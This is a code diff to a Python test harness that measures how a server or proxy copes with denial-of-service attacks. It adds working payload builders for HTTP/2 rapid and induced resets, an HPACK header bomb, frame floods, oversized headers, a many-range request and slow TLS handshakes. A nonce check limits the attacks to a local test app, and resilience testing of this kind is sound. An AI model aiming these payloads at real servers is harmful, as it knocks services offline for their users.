@@ -3,7 +3,8 @@
 `attack.py FOLDER TEMPLATE CONNECTIONS SECONDS NAMES PROGRAM WORDS...` opens an app, writes FOLDER/config from the template for it,
 starts `PROGRAM WORDS...` there and prints one line of JSON for each attack; NAMES is a list with commas, or `all`. FOLDER holds a
 certificate, `shop.pem` and `shop.key`; attacks of HTTP/2 and TLS come over TLS. There is no other target: before each attack the
-listener must answer with the nonce of this run, which only the app in this process knows. Every attack ends by itself.
+listener must answer with the nonce of this run, which only the app in this process knows. Every attack ends by itself. For the
+attack `full table` the template's {slots}, {worker_slots} and {limits} leave room for half of the attackers.
 """
 
 import asyncio
@@ -19,7 +20,7 @@ import sys
 import time
 from pathlib import Path
 
-# What works on dear requests, 40 ms each.
+# What works on dear requests, 40 ms each, and a millisecond on each part of a file.
 WORKERS = asyncio.Semaphore(8)
 PATIENCE = 2
 PAUSE = 0.1
@@ -28,7 +29,7 @@ LARGE = b"x" * 3_000_000
 NONCE = secrets.token_hex(16).encode()
 UNKNOWN, KNOWN = "127.9.0.1", "127.9.1.1"
 
-DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
+DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 END_HEADERS, END_STREAM = 4, 1
 
 
@@ -43,14 +44,28 @@ def head(method, path):
     return fields + bytes([0x01, 8]) + b"app.test"
 
 
-def resets(turn):
-    """A hundred streams that are taken back at once (CVE-2023-44487)."""
-    numbers = range(1 + 200 * turn, 201 + 200 * turn, 2)
-    reset = struct.pack(">I", 8)
-    pairs = (
-        frame(HEADERS, END_HEADERS | END_STREAM, n, head("GET", b"/")) + frame(RST_STREAM, 0, n, reset) for n in numbers
-    )
-    return b"".join(pairs)
+def broken(kind, payload):
+    """A hundred streams a turn, each followed at once by a frame that ends it."""
+
+    def turn_of(turn):
+        numbers = range(1 + 200 * turn, 201 + 200 * turn, 2)
+        begun = lambda n: frame(HEADERS, END_HEADERS | END_STREAM, n, head("GET", b"/"))
+        return b"".join(begun(n) + frame(kind, 0, n, payload) for n in numbers)
+
+    return turn_of
+
+
+def text(value):
+    """A string of at most 16,510 bytes without Huffman coding (RFC 7541, sections 5.1 and 5.2)."""
+    over = len(value) - 127
+    return (bytes([len(value)]) if over < 0 else bytes([127, over % 128 | 128, over // 128])) + value
+
+
+def bomb(turn):
+    """A request whose 8 KB of fields are 16 MB for whoever writes them out: one field fills the table, and comes 4,000 times."""
+    filling = bytes([0x40]) + text(b"a") + text(b"x" * 4_000)
+    fields = head("GET", b"/") + filling + bytes([0x80 | 62]) * 4_000
+    return frame(HEADERS, END_HEADERS | END_STREAM, 1 + 2 * turn, fields)
 
 
 def streams(method, path, flags, data=None):
@@ -63,6 +78,10 @@ def streams(method, path, flags, data=None):
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 NO_WINDOW = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
 OPEN = PREFACE + frame(SETTINGS, 0, 0, b"")
+# The other side may keep as large a table for its answers as there can be.
+LARGE_TABLE = frame(SETTINGS, 0, 0, struct.pack(">HI", 1, 2**32 - 1))
+# On a window that is open it is more than a window can be: the other side must take the stream back (RFC 9113, section 6.9.1).
+TOO_WIDE = struct.pack(">I", 2**31 - 1)
 # Many small fields, without compression.
 FIELDS = (bytes([0x00, 1]) + b"a" + bytes([1]) + b"b") * 2_000
 # As below, over HTTP/2.
@@ -70,20 +89,29 @@ ATTACKS_2 = {
     "closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/", END_STREAM), b"", 1),
     "large closed windows": (PREFACE + NO_WINDOW + streams("GET", b"/large", END_STREAM), b"", 1),
     "unfinished streams": (OPEN + streams("POST", b"/upload", 0, b"x" * 16), b"", 1),
-    "resets": (OPEN, resets, 0.1),
+    # CVE-2023-44487, and CVE-2025-8671.
+    "resets": (OPEN, broken(RST_STREAM, struct.pack(">I", 8)), 0.1),
+    "made resets": (OPEN, broken(WINDOW_UPDATE, TOO_WIDE), 0.1),
     "endless headers": (OPEN + frame(HEADERS, 0, 1, head("GET", b"/")), frame(CONTINUATION, 0, 1, FIELDS), 0.1),
     "pings": (OPEN, frame(PING, 0, 0, b"x" * 8) * 500, 0.1),
     "settings": (OPEN, frame(SETTINGS, 0, 0, b"") * 500, 0.1),
+    "window updates": (OPEN, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 500, 0.1),
+    "priorities": (OPEN, b"".join(frame(PRIORITY, 0, n, struct.pack(">IB", 0, 16)) for n in range(1, 1001, 2)), 0.1),
+    "header tables": (PREFACE + LARGE_TABLE, bomb, 0.1),
     "empty frames": (OPEN + streams("POST", b"/upload", 0), frame(DATA, 0, 1, b""), 0.1),
 }
 HOST = b" HTTP/1.1\r\nHost: app.test\r\n"
 UPLOAD = b"POST /upload" + HOST
+# 28 KB of fields without an end, and five hundred parts of a file (CVE-2011-3192).
+LARGE_FIELDS = b"".join(b"X-%d: %s\r\n" % (n, b"x" * 690) for n in range(40))
+PARTS = b"Range: bytes=" + b",".join(b"%d-%d" % (2 * n, 2 * n) for n in range(500)) + b"\r\n"
 # What is sent first, what is sent again and again, and after how many seconds; None reads the answer drop by drop, END goes at once.
 END = object()
 # What an honest client sees that is asked to come back later.
 AWAY = "away"
 ATTACKS = {
     "slow headers": (b"GET /" + HOST, b"X-a: b\r\n", 1),
+    "large headers": (b"GET /" + HOST + LARGE_FIELDS, b"X-a: b\r\n", 1),
     "slow body": (UPLOAD + b"Content-Length: 1000000\r\n\r\n", b"x", 1),
     "stopped upload": (UPLOAD + b"Content-Length: 1000000\r\n\r\n" + b"x" * 100_000, b"", 1),
     "tiny chunks": (UPLOAD + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\nx\r\n", 0.1),
@@ -92,7 +120,10 @@ ATTACKS = {
     "idle": (b"", b"", 1),
     "requests": (b"", (b"GET /" + HOST + b"\r\n") * 5, 0.05),
     "dear requests": (b"", (b"GET /dear" + HOST + b"\r\n") * 5, 0.05),
+    "many parts": (b"", b"GET /" + HOST + PARTS + b"\r\n", 1),
     "pipelined": ((b"GET /" + HOST + b"\r\n") * 50, b"", 1),
+    # More connections than there is room for, none of them idle for long.
+    "full table": (b"GET /" + HOST + b"\r\n", b"GET /" + HOST + b"\r\n", 2),
     "websockets": (
         b"GET /socket" + HOST + b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
         b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
@@ -102,6 +133,10 @@ ATTACKS = {
 }
 # As above, over TLS: a handshake and nothing else.
 HANDSHAKES = {"handshakes": (b"", END, 0)}
+# As above, to the port with TLS, but without it: the begin of a handshake, byte by byte.
+DRIPS = {"slow handshakes": (b"\x16", lambda turn: HELLO[1 + turn : 2 + turn], 1)}
+# Attacks by work of the app, during which honest clients ask for some, too.
+DEAR = {"dear requests", "many parts"}
 
 
 async def serve(reader, writer):
@@ -117,9 +152,9 @@ async def serve(reader, writer):
                 await reader.read()
                 return
             await read_body(reader, head)
-            if head.startswith(b"get /dear"):
+            if work := seconds_of_work(head):
                 async with WORKERS:
-                    await asyncio.sleep(0.04)
+                    await asyncio.sleep(work)
             body = LARGE if head.startswith(b"get /large") else NONCE
             signed_in = b"portcullis-login: ann\r\n" if head.startswith(b"get /in") else b""
             writer.write(b"HTTP/1.1 200 OK\r\n%scontent-length: %d\r\n\r\n" % (signed_in, len(body)))
@@ -129,6 +164,12 @@ async def serve(reader, writer):
         pass
     finally:
         writer.close()
+
+
+def seconds_of_work(head):
+    """What a request costs the app: some are dear, and each part of a file that is asked for costs something."""
+    parts = head.split(b"range: bytes=")[1].split(b"\r\n")[0].count(b",") + 1 if b"range: bytes=" in head else 0
+    return 0.001 * parts + (0.04 if head.startswith(b"get /dear") else 0)
 
 
 async def read_body(reader, head):
@@ -234,12 +275,28 @@ def trusting(protocols):
     return context
 
 
+def hello():
+    """The first message of a client of TLS (RFC 8446, section 4.1.2), in its record."""
+    out = ssl.MemoryBIO()
+    client = trusting(["http/1.1"]).wrap_bio(ssl.MemoryBIO(), out, server_hostname="app.test")
+    try:
+        client.do_handshake()
+    except ssl.SSLWantReadError:
+        pass
+    return out.read()
+
+
+HELLO = hello()
+
+
 def attack_from_here(name, connections, seconds, listen, tls):
     """All attackers of one attack; a process of its own, so that honest clients do not wait for them."""
     if name in ATTACKS:
         attack, target = ATTACKS[name], (listen, None)
     elif name in ATTACKS_2:
         attack, target = ATTACKS_2[name], (tls, trusting(["h2"]))
+    elif name in DRIPS:
+        attack, target = DRIPS[name], (tls, None)
     else:
         attack, target = HANDSHAKES[name], (tls, trusting(["http/1.1"]))
 
@@ -261,7 +318,7 @@ async def measure(name, connections, seconds, listen, tls):
     attackers = multiprocessing.get_context("fork").Process(target=attack_from_here, args=arguments)
     attackers.start()
     until = time.monotonic() + seconds
-    path = b"/dear" if name == "dear requests" else b"/"
+    path = b"/dear" if name in DEAR else b"/"
     unknown, known = await asyncio.gather(
         visit(until, listen, UNKNOWN, path), visit(until, listen, KNOWN, path, field)
     )
@@ -285,19 +342,31 @@ def free_port():
         return probe.getsockname()[1]
 
 
+def room(name, connections):
+    """What a template says of room for connections: as much as usual, or for half of the attackers and not fewer than 64.
+
+    Each of two workers of nginx has half of it, and as many slots as it may keep connections to the app, which count there too.
+    """
+    if name != "full table":
+        return {"slots": 8192, "worker_slots": 8192, "limits": ""}
+    slots = max(64, connections // 2)
+    return {"slots": slots, "worker_slots": slots // 2 + 64, "limits": f"[limits]\nconnections = {slots}"}
+
+
 async def main(folder, template, connections, seconds, names, command):
     """The attacks, each against a new process."""
     hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
     app = await asyncio.start_server(serve, "127.0.0.1", 0, backlog=1024)
     origin = app.sockets[0].getsockname()[1]
-    every = [*ATTACKS, *ATTACKS_2, *HANDSHAKES]
+    every = [*ATTACKS, *ATTACKS_2, *HANDSHAKES, *DRIPS]
     for number, name in enumerate(every if names == "all" else names.split(",")):
         ports = {"listen": free_port(), "tls": free_port(), "console": free_port(), "origin": origin}
-        text = Path(template).read_text()
-        for place, value in {**ports, "state": folder / str(number), "folder": folder}.items():
-            text = text.replace("{" + place + "}", str(value))
-        (folder / "config").write_text(text)
+        config = Path(template).read_text()
+        places = {**ports, **room(name, int(connections)), "state": folder / str(number), "folder": folder}
+        for place, value in places.items():
+            config = config.replace("{" + place + "}", str(value))
+        (folder / "config").write_text(config)
         with open(folder / "log", "ab") as log:
             server = subprocess.Popen(command, cwd=folder, stdout=log, stderr=log)
         try:
